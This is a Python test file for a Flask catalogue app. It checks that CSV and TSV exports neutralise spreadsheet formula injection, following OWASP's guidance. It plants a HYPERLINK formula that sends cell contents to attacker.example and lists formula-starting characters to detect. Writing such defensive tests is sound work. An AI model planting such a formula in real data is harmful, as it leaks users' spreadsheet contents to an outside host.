"""Formulas that somebody types into a record, and that a spreadsheet program would work out."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from clients import signed_in
from flask import Flask
from planting import plant
from walking import addresses_of, rules

from catalogue.collection.folder import Collection
from catalogue.web import create_app

# OWASP, "CSV Injection": what a cell may not begin with; the wide forms are typed in East Asia.
BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")
FORMULA = 'HYPERLINK("https://attacker.example/?"&A1,"open")'


@pytest.fixture(scope="module")
def calculating(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    """A collection whose every text begins as a formula does."""
    collection = Collection.create(tmp_path_factory.mktemp("formulas") / "collection")
    for beginning in BEGINNINGS:
        plant(collection, lambda kind, name, begins=beginning: f"{begins}{FORMULA}")
    made = create_app(collection)
    made.config.update(WTF_CSRF_ENABLED=False)
    yield made
    collection.close()


def spreadsheets(app: Flask) -> list[str]:
    return [
        address
        for rule in rules(app, ["GET"])
        if rule.rule.endswith((".csv", ".tsv"))
        for address in addresses_of(app, rule)
    ]


@pytest.mark.parametrize("role", ["visitor", "keeper"])
def test_no_cell_of_any_spreadsheet_is_a_formula(calculating: Flask, role: str) -> None:
    client = signed_in(calculating, role)
    cells = 0
    for address in spreadsheets(calculating):
        answer = client.get(address)
        assert answer.status_code == 200, address
        assert answer.mimetype == "text/csv"
        assert answer.headers["Content-Disposition"].startswith("attachment")
        text = answer.get_data().decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not cell.startswith(BEGINNINGS), f"{address}: {cell!r}"
                cells += FORMULA in cell
    assert cells >= 3 * len(BEGINNINGS), "the attack did not reach the spreadsheets"
